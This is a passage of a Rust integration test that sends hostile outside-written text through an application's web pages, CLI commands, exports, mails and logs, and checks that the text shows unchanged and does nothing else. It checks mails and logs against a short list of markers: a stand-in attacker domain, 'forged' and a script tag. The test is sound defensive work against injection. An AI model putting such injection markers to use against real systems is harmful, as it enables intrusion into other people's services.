                    let again = plain(&hidden(&html, "answer"));
                    let sure = [("token", token.as_str()), ("sure", "yes"), ("asked", &asked), ("answer", &again)];
                    let done = browser.post(&path, &sure).await;
                    world.page(&place, &done);
                    world.expect(asked_of(&done).is_none(), || format!("{place}: asked again"));
                }
                shown.push_str(&html);
            }
        }
    }
    for (n, text) in corpus() {
        // Of a supplier, of a mail server, of a webhook's answer, in the audit log and in a campaign's history.
        for part in [
            format!("{n}: {text}"),
            format!("said {text}"),
            format!("why {text}"),
            format!("who {text}"),
            format!("about {text}"),
            format!("note {text}"),
        ] {
            let expected = on_a_page(&part);
            world.expect(shown.contains(&expected), || format!("no page shows {expected:?}"));
        }
    }
}

async fn every_page_of_a_person(world: &World) {
    let lines = |text: &str| text.replace("\r\n", "\n");
    for (n, text) in corpus() {
        let mut browser = Browser::member(&world.server, n as u8 + 10, &format!("rest{n}@example.com")).await;
        let by_form = world.sign_up(&format!("form{n}@example.com"));
        let (confirm, decline) = (world.server.confirm_path(by_form), world.server.decline_path(by_form));
        for path in ["/me", "/me/leave", "/me/erase", &confirm, &decline] {
            let place = path.chars().take(9).collect::<String>();
            let html = world.page(&place, &browser.get(path).await);
            let expected = on_a_page(text);
            let is_there = !["/me", &confirm].contains(&path) || lines(&html).contains(&lines(&expected));
            world.expect(is_there, || format!("{place} does not show {expected:?}"));
        }
        // As it is, for a program, and for the form that changes it.
        let export = browser.get("/me/export").await;
        let export: Value = serde_json::from_slice(&export.body).unwrap();
        let exported = &export["answers"]["comments"];
        world.expect(*exported == text.replace('\0', ""), || format!("exported as {exported}, not {text:?}"));
        let (texts, _) = browser.shown_answers().await;
        let comments = texts.iter().find(|(name, _)| name == "otherComments").map(|(_, text)| lines(&plain(text)));
        let is_whole = comments == Some(lines(&text.replace('\0', "")));
        world.expect(is_whole, || format!("the form has {comments:?}, not {text:?}"));
    }
}

/// Each command that prints what others wrote; those with `--json` once more with it.
fn every_command(world: &World) {
    let lists: [&[&str]; 19] = [
        &["audit", "--all", "--json"],
        &["keys", "list", "--json"],
        &["partners", "list", "--json"],
        &["partners", "show", "Acme Assistant"],
        &["webhooks", "list", "--json"],
        &["mail", "list", "--json"],
        &["signups", "status", "--json"],
        &["operator", "list", "--json"],
        &["campaigns", "list", "--json"],
        &["campaigns", "show", CAMPAIGN, "--json"],
        &["campaigns", "rounds", CAMPAIGN, "--json"],
        &["campaigns", "drafts", CAMPAIGN, "--json"],
        &["campaigns", "demand", CAMPAIGN, "--json"],
        &["campaigns", "demand", CAMPAIGN, "--markdown"],
        &["rewards", "list", "--json"],
        &["rewards", "review"],
        &["stats", "--json"],
        &["doctor", "--json"],
        &["members", "export", "--format", "jsonl", "--state", "all"],
    ];
    for arguments in lists {
        let said = world.terminal(&arguments.join(" "), &world.server.try_run(arguments));
        let is_json = said.is_empty()
            || said.lines().all(|line| serde_json::from_str::<Value>(line).is_ok())
            || serde_json::from_str::<Value>(&said).is_ok();
        world.expect(is_json || !arguments.contains(&"--json"), || format!("{arguments:?} is no JSON"));
        let plain: Vec<_> = arguments.iter().copied().filter(|word| *word != "--json").collect();
        world.terminal(&plain.join(" "), &world.server.try_run(&plain));
    }
    // A table for spreadsheets, where each line ends in CR and LF.
    let csv = world.server.run(&["members", "export", "--state", "all"]);
    world.reads("members export", &csv, &['\r', '\n']);
    for (n, text) in corpus() {
        world.terminal("members show", &world.server.try_run(&["members", "show", &format!("mcp{n}@example.com")]));
        let shown = ["members", "show", &format!("rest{n}@example.com"), "--json"];
        let shown = world.terminal("members show --json", &world.server.try_run(&shown));
        let shown: Value = serde_json::from_str(&shown).unwrap();
        let comments = &shown["signUps"][0]["comments"];
        world.expect(*comments == json!(text.replace('\0', "")), || format!("members show: {comments}, not {text:?}"));
        if !text.contains(|c| is_unseen(c) || c == '"') {
            continue;
        }
        let file = world.folder.path().join("answer.csv");
        for answer in [settled(n, text), settled(n, text).rsplit_once("\n\"").unwrap().0.to_owned()] {
            std::fs::write(&file, answer).unwrap();
            let settle = ["rewards", "batch", "settle", file.to_str().unwrap()];
            world.terminal("rewards batch settle", &world.server.try_run(&settle));
        }
        // Nobody types these; a script that hands on what others wrote does.
        let given = text.replace('\0', "");
        for arguments in [
            ["members", "show", &given],
            ["campaigns", "show", &given],
            ["keys", "revoke", &given],
            ["webhooks", "test", &given],
        ] {
            let output = world.server.try_run(&arguments);
            let told = String::from_utf8(output.stderr).unwrap();
            world.reads(&arguments.join(" "), &told, &['\n', '\t']);
        }
    }
}

fn every_mail(world: &World) {
    let mut count = 0;
    for file in std::fs::read_dir(world.server.data().join("mailbox")).unwrap().map(|file| file.unwrap().path()) {
        if file.extension().is_none_or(|end| end != "eml") {
            continue;
        }
        let mail = std::fs::read_to_string(&file).unwrap();
        let mail = MessageParser::default().parse(mail.as_bytes()).unwrap();
        let headers: String = mail.headers_raw().map(|(name, value)| format!("{name}:{value}")).collect();
        let parts = [headers, mail.body_text(0).unwrap().into_owned(), mail.body_html(0).unwrap().into_owned()];
        for part in parts {
            world.reads("a mail", &part, &['\r', '\n', '\t']);
            for (_, text) in corpus() {
                world.expect(!part.contains(text), || format!("a mail holds {text:?}"));
            }
            for said in ["evil.example", "forged"] {
                world.expect(!part.contains(said), || format!("a mail holds {said}"));
            }
        }
        count += 1;
    }
    assert!(count > HOSTILE.len(), "{count}");
}

fn the_log(world: &World) {
    let log = world.server.log();
    world.reads("the log", &log, &['\n']);
    for line in log.lines() {
        let is_ours = line.get(..20).is_some_and(|time| time.parse::<Timestamp>().is_ok());
        world.expect(is_ours, || format!("a line of the log: {line}"));
        for part in ["forged", "evil.example", "<script>", "@example.com"] {
            world.expect(!line.contains(part), || format!("the log has {part}: {line}"));
        }
    }
    assert!(log.lines().count() > 500);
}

#[tokio::test(flavor = "multi_thread")]
async fn what_people_outside_write_reads_as_it_is_and_does_nothing_else() {
    let world = World::start().await;
    for (_name, put) in FIELDS {
        for (n, text) in corpus() {
            put(&world, n, text).await;
        }
    }
    every_page_of_the_operator(&world).await;
    every_page_of_a_person(&world).await;
    every_command(&world);
    every_mail(&world);
    the_log(&world);
    // Some of each place, for one mistake shows in many texts.
    let faults = world.faults.lock().unwrap();
    let mut some = BTreeMap::<String, Vec<String>>::new();
    for fault in faults.iter() {
        let of_place = some.entry(fault.chars().take(20).collect()).or_default();
        if of_place.len() < 3 {
            of_place.push(fault.chars().take(300).collect());
        }
    }
    assert!(some.is_empty(), "{} faults, such as {some:#?}", faults.len());
}
